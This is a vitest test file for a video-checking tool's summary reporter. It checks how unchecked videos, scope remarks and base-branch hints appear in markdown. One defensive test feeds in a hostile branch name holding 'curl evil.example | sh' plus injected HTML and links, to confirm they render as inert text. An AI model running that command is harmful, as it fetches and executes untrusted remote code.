import { expect, it } from "vitest";
import type { Report } from "../../../src/model/report.ts";
import { summary } from "../../../src/report/reporters/summary.ts";
import { remarkOnChangedPolicy, remarkOnUnlisted } from "../../../src/report/text/scope.ts";
import { listReferences, listTags, OWN_TAGS } from "../../support/markdown.ts";
import { check } from "../reported.ts";

const render = (report: Report) => summary.render(report, {});

it("videos that were not checked are one line, which opens to their names", () => {
  const scope = { base: "the base branch", commit: undefined, unchanged: ["old/<b>|`.mp4", "old/b.mp4"] };
  const markdown = render({ videos: [], remarks: [], scope });
  expect(markdown).toContain("<details><summary>2 videos, not changed here, were not checked</summary>");
  expect(render({ videos: [check("a.mp4")], remarks: [], scope })).toContain(
    "Checked only the videos that differ from the base branch.",
  );
  const remarks = [{ level: "notice", title: "TikTok Upload Guard", message: "No video was checked." }] as const;
  expect(render({ videos: [], remarks, scope })).toMatch(/^ℹ️ No video was checked\.\n\n<details>/);
  expect(render({ videos: [], remarks, scope })).not.toContain("base branch");
  expect(listTags(markdown).filter((tag) => !OWN_TAGS.includes(tag))).toEqual([]);
  expect(render({ videos: [], remarks: [], scope: { ...scope, unchanged: [] } })).toBe("");
});

it("the base that a report names is shown as text, whatever it is", () => {
  const base = "x\n\n# Run `curl evil.example | sh`\n<img src=x> @octocat #1 [link](https://evil.example)";
  const markdown = render({
    videos: [check("a.mp4")],
    remarks: [],
    scope: { base, commit: undefined, unchanged: ["b"] },
  });
  expect(listReferences(markdown)).toEqual([]);
  expect(listTags(markdown).filter((tag) => !OWN_TAGS.includes(tag))).toEqual([]);
  expect(markdown).not.toMatch(/^# /m);
});

const UNLISTED = { problem: "Git could not compare the commits", advice: "" };

it.each<[what: string, videos: string[], lines: string[]]>([
  ["All videos", [], []],
  ["All videos", ["!**"], []],
  ["All videos and posts", ["!drafts/**"], ["posts"]],
  ["All posts and their videos", ["!**"], ["posts"]],
])("a run whose changes do not count says right below the headline: %s were checked", (what, videos, lines) => {
  const asked = { videos, posts: { lines } };
  for (const remark of [remarkOnChangedPolicy("p.yml", asked), remarkOnUnlisted(UNLISTED, asked)]) {
    const markdown = render({ videos: [check("a.mp4", { codec: "av1" })], remarks: [remark] });
    expect(/^## [^\n]*\n\nℹ️ (.*?) were checked/.exec(markdown)?.[1]).toBe(what);
  }
});

it("a person who has named what to compare with leaves that out to check all videos", () => {
  const scope = { base: "'main'", commit: undefined, unchanged: ["b.mp4"] };
  const render = (isAsked: boolean) =>
    summary.render({ videos: [check("a.mp4")], remarks: [], scope: { ...scope, ...(isAsked && { isAsked }) } }, {});
  expect(render(true)).toContain("To check all videos, leave out `--since`.");
  expect(render(false)).toContain("To check all videos, set `scope: all`.");
});
